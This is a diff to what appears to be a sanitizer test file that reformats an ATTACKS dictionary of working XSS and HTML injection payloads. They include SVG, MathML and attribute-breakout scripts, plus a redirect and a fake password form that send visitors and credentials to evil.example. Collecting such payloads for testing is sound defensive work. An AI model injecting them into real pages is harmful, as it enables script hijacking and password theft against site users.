@@ -32,10 +32,12 @@ ATTACKS = {
     "picture source": f'<picture><source srcset="x" onerror="{OWN}"><img src=x onerror="{OWN}"></picture>',
     "svg": f'<svg onload="{OWN}"><circle r="9"/></svg>',
     "svg script": f"<svg><script>{OWN}</script></svg>",
-    "svg animate": '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>',
+    "svg animate":
+        '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>',
     "svg use": '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
     "svg style": f"<svg><style><img src=x onerror={OWN}></style></svg>",
-    "svg foreign": f"<svg><foreignObject><iframe srcdoc='<script>parent.{OWN}</script>'></foreignObject></svg>",
+    "svg foreign":
+        f"<svg><foreignObject><iframe srcdoc='<script>parent.{OWN}</script>'></foreignObject></svg>",
     "mathml": f'<math><maction actiontype="statusline" xlink:href="javascript:{OWN}">x</maction></math>',
     "mathml mutation": f"<math><mtext><table><mglyph><style><img src onerror={OWN}></style></mglyph></table>",
     "body": f'<body onload="{OWN}" onpageshow="{OWN}">',
@@ -49,14 +51,16 @@ ATTACKS = {
     "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
     "style": "<style>@import 'https://evil.example/x.css';body{display:none}</style>",
     "style attribute": '<p style="background:url(https://evil.example/x);position:fixed;inset:0">x</p>',
-    "form": '<form action="https://evil.example/"><input name="p" type="password"><button>Log in</button></form>',
+    "form":
+        '<form action="https://evil.example/"><input name="p" type="password"><button>Log in</button></form>',
     "template": f"<template><img src=x onerror={OWN}></template>",
     "noscript": f'<noscript><p title="</noscript><img src=x onerror={OWN}>"></noscript>',
     # ways out of where it stands
     "attribute": f'" onmouseover="{OWN}" autofocus onfocus="{OWN}" x="',
     "attribute, single": f"' onmouseover='{OWN}' autofocus onfocus='{OWN}' x='",
     "attribute, backquote": f"` onmouseover=`{OWN}`",
-    "closing everything": f"--></title></style></textarea></script></article></main></body><script>{OWN}</script>",
+    "closing everything":
+        f"--></title></style></textarea></script></article></main></body><script>{OWN}</script>",
     "comment": f"<!-- --!><img src=x onerror={OWN}> -->",
     "cdata": f"<![CDATA[<script>{OWN}</script>]]>",
     "cdata end": "]]>]]&gt;]]&#62;",
